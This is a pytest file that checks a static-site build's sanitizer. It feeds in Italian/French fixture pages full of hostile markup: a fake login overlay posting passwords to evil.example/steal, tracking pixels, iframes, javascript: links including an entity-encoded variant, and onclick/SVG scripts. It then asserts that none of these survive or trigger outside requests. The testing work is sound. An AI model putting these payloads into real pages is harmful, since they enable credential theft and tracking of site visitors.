"""The build applies the checker's allowlist (content/allowlist.py) even when the check is skipped:
a fixture site with a harmful page, built with the plugin option `check: false`, shows none of the
harmful markup, and a browser showing any of its pages asks no other host for anything."""
from __future__ import annotations

import functools
import http.server
import threading
from pathlib import Path

import pytest
from conftest import _QuietHandler, build_site, copy_repo, free_port
from kb_fixture import write_corpus

pytestmark = pytest.mark.build  # builds a site of harmful pages

HARMFUL = """
<style>body { display: none }</style>

<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Accedi di nuovo</div>

<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>OK</button></form>

<img src="https://tracker.example/pixel.gif" alt="">

![logo](https://tracker.example/logo.png)

Testo normale con un [link esterno](https://www.example.org/) che resta.

<iframe src="https://evil.example/frame"></iframe>

<a href="javascript:alert(1)" onclick="alert(2)">clic</a>

<svg><script>alert(3)</script><foreignObject><p>x</p></foreignObject></svg>
"""
# The same kinds of harm made with Markdown alone, no raw HTML: the build must see them in
# Markdown's own tree (kb/adapter/sanitize_gate.py), not only in raw HTML.
MARKDOWN_HARMFUL = """

Un [collegamento](javascript:alert(4)) e un'[immagine](https://tracker.example/md.png).

![pixel](https://tracker.example/md-pixel.gif)

Paragrafo con un attributo.
{: onclick="alert(5)" style="display:none" }

!!! evil-class "Avviso"
    Testo dell'avviso.
"""
MARKDOWN_HARMFUL_MARKS = ("javascript:", "tracker.example/md-pixel", "onclick", "style=", "evil-class")
# Alone on a page, so that nothing else sends that page to the sanitizer: a javascript: link whose
# scheme is written with a character reference, which the browser decodes.
ENCODED_HARM = "\n\nUn [collegamento](java&#x09;script:alert(6)) scritto con un carattere codificato.\n"
HARMFUL_MARKS = ("<style", "style=", "<form", "type=\"password\"", "tracker.example", "<iframe", "javascript:",
                 "onclick", "alert(3)", "foreignObject", "evil.example")


@pytest.fixture(scope="module")
def harmful_site(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("harmful")
    repo = copy_repo(folder / "repo")
    write_corpus(repo)
    for lang in ("it", "fr"):
        path = repo / "docs" / lang / "experiences" / "orti-torino.md"
        path.write_text(path.read_text(encoding="utf-8") + HARMFUL, encoding="utf-8")
        path = repo / "docs" / lang / "experiences" / "aiuto-familiari.md"
        path.write_text(path.read_text(encoding="utf-8") + MARKDOWN_HARMFUL, encoding="utf-8")
        path = repo / "docs" / lang / "outputs" / "ricerca-prova.md"
        path.write_text(path.read_text(encoding="utf-8") + ENCODED_HARM, encoding="utf-8")
    config = repo / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert "      check: true\n" in text
    config.write_text(text.replace("      check: true\n", "      check: false\n"), encoding="utf-8")
    return build_site(folder / "site", "http://127.0.0.1:8000/", root=repo)


def test_no_harmful_markup_reaches_the_built_page(harmful_site):
    for lang in ("", "fr/"):
        html = (harmful_site / f"{lang}experiences/orti-torino/index.html").read_text(encoding="utf-8")
        article = html[html.index("<article"):html.index("</article>")]
        assert "Testo normale con un" in article and 'href="https://www.example.org/"' in article
        found = [mark for mark in HARMFUL_MARKS if mark in article]
        assert found == [], f"{lang}experiences/orti-torino/: {found}"


def test_harm_made_with_markdown_alone_is_removed_too(harmful_site):
    for lang in ("", "fr/"):
        html = (harmful_site / f"{lang}experiences/aiuto-familiari/index.html").read_text(encoding="utf-8")
        article = html[html.index("<article"):html.index("</article>")]
        assert "Paragrafo con un attributo." in article and "avviso." in article  # the text stays
        found = [mark for mark in MARKDOWN_HARMFUL_MARKS if mark in article]
        assert found == [], f"{lang}experiences/aiuto-familiari/: {found}"
        html = (harmful_site / f"{lang}outputs/ricerca-prova/index.html").read_text(encoding="utf-8")
        article = html[html.index("<article"):html.index("</article>")]
        assert "scritto con un carattere codificato" in article and "alert(6)" not in article


def test_no_page_of_the_harmful_site_asks_another_host(harmful_site, browser):
    port = free_port()
    handler = functools.partial(_QuietHandler, directory=str(harmful_site))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{port}/"
    context = browser.new_context()
    try:
        page = context.new_page()
        elsewhere: list[str] = []
        page.on("request", lambda request: None if request.url.startswith(base) else elsewhere.append(request.url))
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in ("experiences/orti-torino/", "fr/experiences/orti-torino/", "experiences/aiuto-familiari/",
                     "experiences/", ""):
            page.goto(base + path, wait_until="networkidle")
            assert page.locator("input[type=password]").count() == 0
            assert page.locator("iframe").count() == 0
            link = page.locator("article a", has_text="clic")
            if link.count():
                link.first.click()
        assert elsewhere == [] and dialogs == []
    finally:
        context.close()
        httpd.shutdown()
